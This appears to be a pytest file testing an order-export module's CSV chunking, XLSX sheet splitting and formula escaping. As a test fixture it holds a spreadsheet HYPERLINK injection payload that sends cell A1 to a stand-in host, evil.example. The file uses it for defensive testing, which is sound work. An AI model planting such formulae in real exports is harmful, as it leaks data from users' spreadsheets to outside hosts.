"""The export writers: CSV in chunks and XLSX through a file, with formulae escaped."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from orders.services import exports
from orders.services.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, formula_escape, xlsx_file_write

HEADERS = ["order_id", "customer_id", "unit_price", "order_date", "source_line"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows():
    return [
        ("1001", HYPERLINK, Decimal("12.90"), date(2024, 1, 10), 2),
        ("1002", "==1+1", Decimal("5.00"), date(2024, 1, 11), None),
        ("1003", "a=b", Decimal("0.10"), date(2024, 1, 12), 4),
    ]


@pytest.mark.parametrize(
    "value, expected",
    [(HYPERLINK, HYPERLINK[1:]), ("==1+1", "1+1"), ("a=b", "a=b"), ("", ""), ("1001", "1001")],
)
def test_formula_escape_drops_every_leading_equals_sign_only(value, expected):
    assert formula_escape(value) == expected


def test_csv_chunks_write_the_header_and_rows_with_formulae_escaped(settings):
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True

    text = "".join(csv_chunks(headers=HEADERS, rows=rows()))

    assert list(csv.reader(io.StringIO(text))) == [
        HEADERS,
        ["1001", HYPERLINK[1:], "12.90", "2024-01-10", "2"],
        ["1002", "1+1", "5.00", "2024-01-11", ""],
        ["1003", "a=b", "0.10", "2024-01-12", "4"],
    ]


def test_csv_chunks_keep_formulae_when_the_setting_is_off(settings):
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = False

    text = "".join(csv_chunks(headers=HEADERS, rows=rows()))

    assert HYPERLINK.replace('"', '""') in text


def test_csv_chunks_yield_a_chunk_per_few_thousand_rows_not_one_string(monkeypatch):
    monkeypatch.setattr(exports, "CSV_CHUNK_ROWS", 10)
    many = ((str(n), "c", Decimal("1.00"), date(2024, 1, 1), n) for n in range(35))

    chunks = list(csv_chunks(headers=HEADERS, rows=many))

    assert len(chunks) == 4  # 10 + 10 + 10 + the last 5 with the header in the first
    assert sum(chunk.count("\n") for chunk in chunks) == 36


def test_xlsx_file_holds_text_not_formulae_and_money_with_cents(settings):
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True

    sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=rows())).active

    assert [cell.value for cell in sheet[1]] == HEADERS
    customer = sheet["B2"]
    assert customer.value == HYPERLINK[1:] and customer.data_type == "s"
    assert sheet["B3"].value == "1+1" and sheet["B3"].data_type == "s"
    assert sheet["C2"].value == Decimal("12.90") or sheet["C2"].value == pytest.approx(12.9)
    assert sheet["C2"].number_format == "0.00"
    assert sheet["D2"].value.date() == date(2024, 1, 10)
    assert sheet.max_row == 4


def test_xlsx_file_would_hold_a_formula_without_the_setting(settings):
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = False

    sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=rows())).active

    assert sheet["B2"].data_type == "f"  # what the setting protects against


def test_xlsx_illegal_characters_become_a_replacement_character_or_a_clear_error(settings):
    bad = [("1001", "cust\x07omer", Decimal("1.00"), date(2024, 1, 1), 1)]
    settings.IMPORT_EXPORT_ESCAPE_ILLEGAL_CHARS_ON_EXPORT = True
    assert load_workbook(xlsx_file_write(headers=HEADERS, rows=bad)).active["B2"].value == "cust\ufffdomer"

    settings.IMPORT_EXPORT_ESCAPE_ILLEGAL_CHARS_ON_EXPORT = False
    with pytest.raises(ValueError, match=EXPORT_FAILED_ILLEGAL_CHARACTER):
        xlsx_file_write(headers=HEADERS, rows=bad)


def test_xlsx_rows_beyond_one_sheet_continue_on_the_next_under_the_same_header(monkeypatch):
    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", 2)
    five = [(str(n), "c", Decimal("1.00"), date(2024, 1, 1), n) for n in range(5)]

    book = load_workbook(xlsx_file_write(headers=HEADERS, rows=five))

    assert book.sheetnames == ["Orders", "Orders (2)", "Orders (3)"]
    assert [[cell.value for cell in row][0] for row in book["Orders (3)"].iter_rows()] == ["order_id", "4"]


def test_xlsx_of_no_rows_has_the_header():
    sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=[])).active

    assert [cell.value for cell in sheet[1]] == HEADERS and sheet.max_row == 1
